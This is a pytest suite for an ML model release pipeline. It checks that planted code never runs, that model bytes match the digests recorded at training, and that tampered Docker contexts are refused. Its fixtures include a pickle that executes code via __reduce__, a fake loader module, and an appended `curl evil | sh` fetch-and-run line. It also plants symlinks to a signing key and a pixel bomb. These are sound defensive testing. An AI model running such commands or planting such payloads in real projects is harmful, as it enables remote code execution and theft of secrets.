"""The release zone (issue 20): it loads no Python model, builds only from what it owns, takes
the model in as bytes checked against the digests recorded at training, and measures what it
ships (before the build with LiteRT, and again inside the server with the smoke test),
refusing below the bar whatever was reported."""

from __future__ import annotations

import ast
import hashlib
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path
from types import SimpleNamespace

import pytest

from rice_mlops import image as image_module
from rice_mlops.release import (
    BelowBar,
    ReleaseInputError,
    manifest_digests,
    measure,
    recorded_digests,
    take_model_bytes,
)
from tests.helpers import handoffs

CLASSES = ["Arborio", "Basmati", "Ipsala", "Jasmine", "Karacadag"]
REPO = Path(__file__).resolve().parents[2]


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def dataset(tmp_path_factory) -> Path:
    from rice_mlops.data.synth import generate

    root = tmp_path_factory.mktemp("rice-data")
    generate(root, per_class=10, seed=1)
    return root


@pytest.fixture(scope="module")
def trained_dir(tmp_path_factory) -> Path:
    """A staged model_artifact directory as fetch_artifacts leaves it, with a planted MLmodel
    whose loader_module (in code/) and pickle would each write a marker if anything ran them."""
    import keras

    from rice_mlops.model import build_model
    from rice_mlops.tflite_export import export_tflite

    staged = tmp_path_factory.mktemp("staged") / "model_artifact"
    staged.mkdir()
    keras.utils.set_random_seed(3)
    export_tflite(build_model(len(CLASSES), 32), staged / "model.tflite")
    (staged / "labels.json").write_text(json.dumps({"classes": CLASSES}))
    marker = staged.parent / "PLANTED-CODE-RAN"
    (staged / "code").mkdir()
    (staged / "code" / "evil_loader.py").write_text(textwrap.dedent(f"""\
        from pathlib import Path
        Path({str(marker)!r}).write_text("loader_module imported")
        def _load_pyfunc(path):
            Path({str(marker)!r}).write_text("loader_module loaded")
        """))
    (staged / "MLmodel").write_text(textwrap.dedent("""\
        flavors:
          python_function:
            loader_module: evil_loader
            code: code
            data: data
            env: {virtualenv: python_env.yaml}
        """))

    class Trap:
        def __reduce__(self):
            return (Path(marker).write_text, ("pickle loaded",))

    import pickle

    (staged / "data").mkdir()
    (staged / "data" / "model.pkl").write_bytes(pickle.dumps(Trap()))
    return staged


@pytest.fixture(scope="module")
def digests(trained_dir) -> dict[str, str]:
    return {"tflite/model.tflite": _sha(trained_dir / "model.tflite"),
            "model_meta/labels.json": _sha(trained_dir / "labels.json")}


@pytest.fixture(scope="module")
def signing_key(tmp_path_factory):
    from rice_mlops.signing import generate_keypair

    private, _ = generate_keypair(tmp_path_factory.mktemp("keys") / "k")
    return private


def _no_wheels(target, cache_root, **_):
    target.mkdir(parents=True, exist_ok=True)
    return []


def _prepare(staged, out, digests, dataset, key_file, *, bar=0.0, floor=0.0):
    from rice_mlops.image import prepare_context
    from rice_mlops.release import smoke_set
    from rice_mlops.signing import load_private_key

    return prepare_context(
        staged, out, metadata={"run_id": "0" * 32, "model_version": "1"}, digests=digests,
        smoke_from=smoke_set(dataset, CLASSES), min_test_accuracy=bar, min_class_recall=floor,
        wheel_cache=out.parent / "wheels", model_card="# card\n",
        signing_key=load_private_key(key_file.read_bytes()))


@pytest.fixture(scope="module")
def context(trained_dir, digests, dataset, signing_key, tmp_path_factory):
    mp = pytest.MonkeyPatch()
    mp.setattr(image_module, "vendor_wheels", _no_wheels)
    try:
        return _prepare(trained_dir, tmp_path_factory.mktemp("release") / "image", digests,
                        dataset, signing_key)
    finally:
        mp.undo()


def test_a_planted_loader_module_or_pickle_never_runs_in_the_release_zone(
        trained_dir, digests, dataset, signing_key, tmp_path):
    """A fresh interpreter prepares the context from a directory holding an MLmodel with a
    loader_module and code/, and a pickle: neither runs, MLflow is never imported, and none of
    those files enters the context."""
    script = textwrap.dedent(f"""
        import json, sys
        from pathlib import Path
        sys.path.insert(0, {str(REPO)!r})
        from rice_mlops import image
        from tests.unit.test_release_zone import _no_wheels, _prepare
        image.vendor_wheels = _no_wheels
        out = _prepare(Path({str(trained_dir)!r}), Path({str(tmp_path / "image")!r}),
                       json.loads({json.dumps(json.dumps(digests))}), Path({str(dataset)!r}),
                       Path({str(signing_key)!r}))
        heavy = sorted(m for m in sys.modules if m.split(".")[0] in
                       ("mlflow", "cloudpickle", "tensorflow", "keras"))
        print(json.dumps({{"heavy": heavy}}))
        """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                          timeout=300, cwd=REPO,
                          env={**os.environ, "PYTHONPATH": str(REPO / "include")})
    assert done.returncode == 0, done.stderr[-3000:]
    assert json.loads(done.stdout.strip().splitlines()[-1])["heavy"] == []
    assert not (trained_dir.parent / "PLANTED-CODE-RAN").exists(), \
        "release zone broken: planted model code ran next to the Docker socket"
    model = tmp_path / "image" / "model"
    assert sorted(p.name for p in model.iterdir()) == [
        "MODEL_CARD.md", "labels.json", "metadata.json", "model.sig.json", "model.tflite"]
    assert not any(p.name in ("MLmodel", "code", "data") for p in (tmp_path / "image").rglob("*"))


def test_no_python_model_loader_on_the_docker_queue_code_path():
    """Static guard: the modules the Docker worker runs for a release never name a Python
    model loader (pyfunc, pickle, cloudpickle, load_model)."""
    modules = ["image.py", "release.py", "docker_tasks.py", "budgets.py", "attestation.py",
               "sbom.py", "signing.py", "serving/smoke.py", "stages/release.py"]
    for name in modules:
        tree = ast.parse((REPO / "include" / "rice_mlops" / name).read_text())
        names = {node.attr for node in ast.walk(tree) if isinstance(node, ast.Attribute)}
        names |= {alias.name for node in ast.walk(tree)
                  if isinstance(node, ast.Import | ast.ImportFrom) for alias in node.names}
        names |= {node.module or "" for node in ast.walk(tree)
                  if isinstance(node, ast.ImportFrom)}
        assert not names & {"pyfunc", "pickle", "cloudpickle", "load_model", "mlflow"}, name


def test_model_bytes_must_be_what_training_recorded(trained_dir, digests, tmp_path):
    assert take_model_bytes(trained_dir, digests, tmp_path / "ok") == CLASSES
    assert sorted(p.name for p in (tmp_path / "ok").iterdir()) == ["labels.json",
                                                                    "model.tflite"]
    other = dict(digests, **{"tflite/model.tflite": "0" * 64})
    with pytest.raises(ReleaseInputError, match="recorded at training"):
        take_model_bytes(trained_dir, other, tmp_path / "tampered")
    swapped = tmp_path / "swapped"
    shutil.copytree(trained_dir, swapped)
    (swapped / "labels.json").write_text(json.dumps({"classes": CLASSES[::-1]}))
    with pytest.raises(ReleaseInputError, match="labels.json has sha256"):
        take_model_bytes(swapped, digests, tmp_path / "swapped-out")
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "model.tflite").symlink_to(trained_dir / "model.tflite")
    shutil.copy(trained_dir / "labels.json", linked)
    with pytest.raises(ReleaseInputError, match="not a regular file"):
        take_model_bytes(linked, digests, tmp_path / "linked-out")


def test_digests_come_from_the_train_task_and_are_well_formed():
    good = {"tflite/model.tflite": "a" * 64, "model_meta/labels.json": "b" * 64}
    assert recorded_digests({"artifact_sha256": good}) == good
    with pytest.raises(ReleaseInputError, match="recorded no artifact digests"):
        recorded_digests({"metrics": {"test_accuracy": 0.99}})
    with pytest.raises(ReleaseInputError, match="not 64"):
        recorded_digests({"artifact_sha256": {**good, "tflite/model.tflite": "../x"}})
    text = "".join(f"{d}  {a}\n" for a, d in good.items()) + f"{'c' * 64}  result.json\n"
    assert recorded_digests({"artifact_sha256": manifest_digests(text)}) == good


def test_the_release_zone_refuses_below_the_bar_before_anything_is_built(
        trained_dir, digests, dataset, signing_key, tmp_path, monkeypatch):
    monkeypatch.setattr(image_module, "vendor_wheels", _no_wheels)
    out = tmp_path / "image"
    with pytest.raises(BelowBar, match="release zone measured"):
        _prepare(trained_dir, out, digests, dataset, signing_key, bar=0.99)
    assert not out.exists() and not list(tmp_path.glob(".image.partial-*"))


def test_the_measurement_names_every_rule_it_breaks():
    true = ["A"] * 10 + ["B"] * 10
    served = ["A"] * 10 + ["A"] * 3 + ["B"] * 7
    result = measure(true, served, ["A", "B"], min_test_accuracy=0.9, min_class_recall=0.8)
    assert result.accuracy == 0.85 and result.recall == {"A": 1.0, "B": 0.7}
    assert not result.passed and len(result.refusals) == 2


def test_context_carries_the_release_measurement_and_only_owned_code(context, digests):
    from rice_mlops.image import verify_owned

    metadata = json.loads((context / "model" / "metadata.json").read_text())
    measured = metadata["release_measurement"]
    expected = json.loads((context / "smoke" / "expected.json").read_text())
    assert measured == expected["release_measurement"]
    assert measured["images"] == len(expected["images"]) > 0
    assert {item["label"] for item in expected["images"]} == set(CLASSES)
    assert len(expected["latency_images"]) == 2 * len(CLASSES)
    assert "Measured by the release zone" in (context / "model" / "MODEL_CARD.md").read_text()
    assert expected["tflite_sha256"] == digests["tflite/model.tflite"]
    assert not (context / "push.sh").exists()  # the push step is the worker's own
    verify_owned(context)


@pytest.mark.parametrize("tamper", ["server", "extra", "dockerfile", "dockerignore", "missing"])
def test_a_context_whose_code_is_not_the_installed_package_is_not_built(context, tmp_path,
                                                                        tamper):
    from rice_mlops.image import NotOwned, verify_owned

    copy = tmp_path / "image"
    shutil.copytree(context, copy)
    app = copy / "app" / "rice_mlops"
    if tamper == "server":
        with (app / "serving" / "app.py").open("a") as handle:
            handle.write("\nimport os; os.system('curl evil | sh')\n")
    elif tamper == "extra":
        (app / "sitecustomize.py").write_text("import os\n")
    elif tamper == "dockerfile":
        (copy / "Dockerfile").write_text("FROM evil\n")
    elif tamper == "dockerignore":
        (copy / ".dockerignore").write_text("smoke\n")
    else:
        (app / "serving" / "decode.py").unlink()
    with pytest.raises(NotOwned):
        verify_owned(copy)


def _smoke(context, monkeypatch, bar, floor, port):
    from rice_mlops.serving import smoke

    monkeypatch.setenv("RICE_MODEL_DIR", str(context / "model"))
    monkeypatch.setenv("RICE_MODEL_PUBLIC_KEY", str(context / "evidence" / "model-signing.pub"))
    return smoke.main(["--smoke-dir", str(context / "smoke"), "--port", str(port),
                       "--min-test-accuracy", str(bar), "--min-class-recall", str(floor)])


def test_the_smoke_test_measures_the_served_answers_and_refuses_below_the_bar(
        context, monkeypatch, capsys):
    """The server the image runs, on the context's own model: the smoke test measures the
    answers against the true classes, reproduces the release zone's figure, and refuses a bar
    it does not reach, whatever expected.json or XCom say."""
    from rice_mlops.serving.smoke import parse_measurement
    from tests.helpers.ports import free_port

    measured = json.loads((context / "model" / "metadata.json").read_text())[
        "release_measurement"]
    assert _smoke(context, monkeypatch, 0.0, 0.0, free_port()) == 0
    out = capsys.readouterr().out
    result = parse_measurement(out)
    assert result["accuracy"] == measured["accuracy"] and result["passed"]
    assert result["recall"] == measured["recall"]
    # A smoke set that claims a perfect model changes nothing: the labels are the truth.
    bar = min(1.0, measured["accuracy"] + 0.01)
    assert _smoke(context, monkeypatch, bar, 0.0, free_port()) == 1
    out = capsys.readouterr().out
    assert "smoke: REFUSED below the bar" in out
    assert not parse_measurement(out)["passed"]


def test_the_smoke_test_needs_a_bar():
    from rice_mlops.serving import smoke

    with pytest.raises(SystemExit):
        smoke.main(["--smoke-dir", "/nonexistent"])
    with pytest.raises(SystemExit):
        smoke.main(["--smoke-dir", "/x", "--min-test-accuracy", "1.5",
                    "--min-class-recall", "0"])


def test_the_smoke_set_refuses_links_and_pixel_bombs(dataset, trained_dir, tmp_path):
    """A test image linked to a file of the release worker (its signing key) never enters the
    smoke set, and an image too large to decode is refused before decoding."""
    from PIL import Image

    from rice_mlops.release import litert_probabilities, smoke_set

    copy = tmp_path / "data"
    shutil.copytree(dataset, copy)
    victim = sorted((copy / "test" / CLASSES[0]).iterdir())[0]
    secret = tmp_path / "signing.key"
    secret.write_text("PRIVATE")
    victim.unlink()
    victim.symlink_to(secret)
    with pytest.raises(ReleaseInputError, match="links"):
        smoke_set(copy, CLASSES)
    bomb = tmp_path / "bomb.png"
    Image.new("L", (5000, 5000)).save(bomb)
    with pytest.raises(ReleaseInputError, match="pixels"):
        litert_probabilities(trained_dir / "model.tflite", [bomb])


@pytest.fixture
def release_task(trained_dir, digests, dataset, signing_key, tmp_path, monkeypatch):
    """The release stage's prepare_image_context, engine, wheels and MLflow stubbed: the glue
    the Docker worker runs, on a staged run directory another zone could have written."""
    from rice_mlops import registry
    from rice_mlops.run_policy import param_schemas
    from rice_mlops.settings import PipelineSettings
    from rice_mlops.signing import load_private_key
    from rice_mlops.stages import release

    run_id = "ab" * 16
    staging, socket = tmp_path / "staging", tmp_path / "docker.sock"
    socket.touch()
    shutil.copytree(trained_dir, staging / run_id / "model_artifact")
    (staging / run_id / "evidence").mkdir()
    (staging / run_id / "evidence" / "MODEL_CARD.md").write_text("# card\n")
    settings = PipelineSettings(staging_root=staging, docker_socket=str(socket),
                                data_root=dataset.parent, min_test_accuracy=0.0,
                                min_class_recall=0.0, max_regression=1.0)
    monkeypatch.setattr(image_module, "vendor_wheels", _no_wheels)
    monkeypatch.setattr("rice_mlops.sbom.read_base_image", lambda *_: ("", None))
    monkeypatch.setattr(release, "pipeline_signing_key",
                        lambda _: load_private_key(signing_key.read_bytes()))
    monkeypatch.setattr(registry, "log_sbom", lambda *_: None)
    monkeypatch.setattr(release, "registry_host", lambda _: None)
    params = {name: schema["default"] for name, schema in param_schemas(settings).items()}
    params["data_dir"] = str(dataset)
    trained = handoffs.trained(run_id, dataset_fingerprint="f" * 64, image_size=32,
                               artifact_sha256=digests, metrics={"test_accuracy": 1.0})

    def run(**overrides):
        return release.prepare_image_context(settings, {**params, **overrides},
                                             handoffs.dataset(str(dataset), fingerprint="f" * 64),
                                             trained, handoffs.gate("3"), "manual__t")

    return SimpleNamespace(run=run, settings=settings, run_id=run_id, staging=staging,
                           trained=trained, params=params)


def test_the_docker_task_builds_its_context_in_the_release_directory(release_task):
    plan = release_task.run()
    context = Path(plan.context)
    assert context == release_task.settings.release_root / release_task.run_id / "image"
    assert not (release_task.staging / release_task.run_id / "image").exists()
    metadata = json.loads((context / "model" / "metadata.json").read_text())
    assert metadata["release_measurement"]["images"] > 0
    # The drift reference the monitoring reads is the release zone's own measurement of these
    # bytes, one row per smoke image, kept under the release root for the version (issue 35).
    from rice_mlops.monitoring import references

    reference = references.load(release_task.settings.release_root, "3")
    assert reference.model_version == "3"
    assert reference.observations.count == metadata["release_measurement"]["images"]


def test_later_release_tasks_act_only_for_the_run_prepare_image_context_measured(
        release_task):
    """Issue 35, done-when 7: the release zone writes down which MLflow run and version it
    measured for the DAG run; a Docker task handed another run (train's XCom rewritten by a
    compute token) or running for another DAG run refuses, without retry."""
    from airflow.sdk.exceptions import AirflowFailException

    from rice_mlops import release_ledger
    from rice_mlops.docker_tasks import image_stages

    release_task.run()
    root = release_task.settings.release_root
    release_ledger.check(root, "manual__t", mlflow_run_id=release_task.run_id,
                         model_version="3")
    with pytest.raises(release_ledger.LedgerMismatch, match="an upstream XCom was rewritten"):
        release_ledger.check(root, "manual__t", mlflow_run_id="cd" * 16)
    with pytest.raises(release_ledger.LedgerMismatch, match="built v3"):
        release_ledger.check(root, "manual__t", mlflow_run_id=release_task.run_id,
                             model_version="4")
    with pytest.raises(release_ledger.LedgerMismatch, match="measured nothing"):
        release_ledger.check(root, "manual__other", mlflow_run_id=release_task.run_id)
    build = image_stages(release_task.trained, release_task.settings)[0]
    context = {"params": release_task.params, "run_id": "manual__t"}
    assert build.plan(context).run_id == release_task.run_id
    forged = handoffs.trained("cd" * 16, dataset_fingerprint="f" * 64, image_size=32)
    # Another run whose context the release zone once built (a rebuild of an older model).
    shutil.copytree(release_task.settings.release_root / release_task.run_id,
                    release_task.settings.release_root / ("cd" * 16))
    with pytest.raises(AirflowFailException, match="an upstream XCom was rewritten"):
        image_stages(forged, release_task.settings)[0].plan(context)


def test_the_docker_task_fails_closed_on_bytes_training_did_not_record(release_task):
    from airflow.sdk.exceptions import AirflowFailException

    tflite = release_task.staging / release_task.run_id / "model_artifact" / "model.tflite"
    tflite.write_bytes(tflite.read_bytes() + b"\0")
    with pytest.raises(AirflowFailException, match="recorded at training"):
        release_task.run()
    assert not release_task.settings.release_root.joinpath(release_task.run_id, "image").exists()


def test_the_docker_task_refuses_a_model_below_a_raised_bar_whatever_xcom_says(release_task):
    """XCom says 1.0 and the gate 'passed'; conf raised the bar to 0.99: not built."""
    from airflow.sdk.exceptions import AirflowFailException

    with pytest.raises(AirflowFailException, match="release zone measured"):
        release_task.run(min_test_accuracy=0.99)
